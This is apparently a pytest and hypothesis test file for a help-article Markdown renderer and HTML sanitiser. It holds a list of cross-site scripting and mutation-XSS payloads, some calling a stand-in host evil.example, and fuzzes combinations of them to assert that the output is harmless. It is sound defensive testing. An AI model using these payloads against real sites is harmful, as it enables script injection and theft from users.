"""T33, T34, T36 in articles: whatever is written, nothing in what readers get can run, lead astray or fetch."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from holdfast.knowledge.rendering import render
from holdfast.knowledge.rendering.plain import plain_text
from holdfast.knowledge.rendering.sanitise import sanitise

OWN = "/help/files/abcdefghijklmnopqrstuvwxyz/"
HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<style>@import 'http://evil.example/x.css'; a{color:red}</style>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=' &#1;javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<base href='http://evil.example/'><a href='x'>x</a>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<input autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>x</details>",
    "<p style='background:url(http://evil.example/p.png)' class='dialog' id='main'>x</p>",
    "<h2 id='main' onclick=alert(1)>x</h2>",
    "<<script>script>alert(1)</script>",
    "<img src='http://evil.example/p.png'>",
    "<table background='http://evil.example/p.png'><td>x</td></table>",
    "<a href='x' target=_blank onmouseover=alert(1)>x</a>",
    "<xmp><img src=x onerror=alert(1)></xmp><plaintext>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](&#106;avascript:alert(1))",
    "[x](<vbscript:msgbox(1)>)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](http://evil.example/p.png)",
    '![x" onerror="alert(1)](http://evil.example/p.png)',
    f'![x" onerror="alert(1)]({OWN})',
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x]: javascript:alert(1)\n\n[x]",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "> [!WARNING]\n> <img src=x onerror=alert(1)>",
    "# <img src=x onerror=alert(1)>",
    "| <script>alert(1)</script> |\n|---|\n| [x](javascript:alert(1)) |",
    'https://evil.example/"onmouseover="alert(1)',
]
TAGS = {
    *("h2", "h3", "h4", "p", "br", "hr", "div", "blockquote", "ul", "ol", "li", "pre", "code", "span", "a"),
    *("img", "strong", "em", "s", "table", "thead", "tbody", "tr", "th", "td"),
}
ATTRIBUTES = {"class", "id", "href", "title", "src", "alt", "loading", "start", "tabindex", "rel"}


def require_harmless(html: str) -> None:
    """By another parser than the one that made it: only known tags, known attributes, addresses that lead nowhere else."""
    body = LexborHTMLParser(f"<!doctype html><body>{html}").body
    assert body is not None
    _, *nodes = body.traverse()
    for node in nodes:
        assert node.tag in TAGS, node.tag
        for name, value in node.attributes.items():
            assert name in ATTRIBUTES, name
            if name == "src":
                assert re.fullmatch(r"/help/files/[a-z2-7]{26}/", value or "")
            if name == "id":
                assert (value or "").startswith("s-")
            if name == "href":
                address = re.sub(r"[\x00-\x20]", "", value or "").lower()
                scheme = re.match(r"[a-z][a-z0-9+.-]*:", address)
                assert scheme is None or scheme[0] in ("http:", "https:", "mailto:", "tel:"), address


def test_t33_t34_nothing_of_the_corpus_runs_as_markdown_or_as_html() -> None:
    for written in HOSTILE:
        for html in (render(written).html, render(f"Words.\n\n{written}\n\nmore").html, sanitise(written)):
            require_harmless(html)
            assert sanitise(html) == html, "it would be another thing when it is read again (mXSS)"


PIECES = st.sampled_from(
    [
        *HOSTILE,
        *(
            "<svg>",
            "</svg>",
            "<math>",
            "</math>",
            "<mtext>",
            "<mglyph>",
            "<style>",
            "</style>",
            "<!--",
            "-->",
        ),
        *(
            "<noscript>",
            "</noscript>",
            "<template>",
            "</template>",
            "<table>",
            "<td>",
            "</table>",
            "<p>",
            "\n\n",
        ),
        *(
            "<a href=",
            "javascript:",
            "'",
            '"',
            ">",
            "`",
            "> ",
            "# ",
            "| ",
            "|--|",
            "![",
            "](",
            ")",
            "\x00",
            "\u202e",
        ),
        *(
            "&lt;",
            "&#x3c;",
            "&Tab;",
            "[!NOTE]\n",
            "<select>",
            "<option>",
            "<foreignObject>",
            "<desc>",
            "<title>",
        ),
    ]
)


@settings(max_examples=150)
@given(st.lists(PIECES | st.text(max_size=8), max_size=14).map("".join))
def test_t33_t34_nor_does_anything_put_together_of_it(written: str) -> None:
    for html in (render(written).html, sanitise(written)):
        require_harmless(html)
        assert sanitise(html) == html


@pytest.mark.parametrize(
    "written",
    [
        "[a]: <" * 8000,
        f"```http\n{'a' * 19_000}\n```",
        "```java\n" + "a\n" * 9000 + "```",
        "```ini\n" + "\n" * 19_000 + "```",
        "# a\n" * 8000,
    ],
)
def test_no_text_takes_more_time_than_a_reader_would(written: str) -> None:
    began = time.process_time()
    render(written)
    assert time.process_time() - began < 2.5


def test_an_article_has_tables_code_callouts_anchors_and_a_table_of_contents() -> None:
    made = render(
        "# Set it up\n\n## Set it up\n\n> [!WARNING]\n> Not **twice**.\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n"
        f"```python\nx = 1\n```\n\n![Board]({OWN}) ~~old~~ https://pellucid.example/x\n\n> Said so."
    )
    assert made.toc == [(2, "s-set-it-up", "Set it up"), (2, "s-set-it-up-2", "Set it up")]
    for expected in (
        '<h2 id="s-set-it-up-2">Set it up</h2>',
        '<div class="callout warning">\n<p><strong>Warning</strong>\nNot <strong>twice</strong>.</p>\n</div>',
        '<td class="num">2</td>',
        '<pre class="code" tabindex="0"><code><span class="k-n">x</span>',
        f'<img src="{OWN}" alt="Board" loading="lazy">',
        "<s>old</s>",
        '<a href="https://pellucid.example/x" rel="noopener noreferrer">',
        "<blockquote>\n<p>Said so.</p>\n</blockquote>",
    ):
        assert expected in made.html, expected
    assert made.words == len(plain_text(made.html).split()) and "Not twice." in plain_text(made.html)
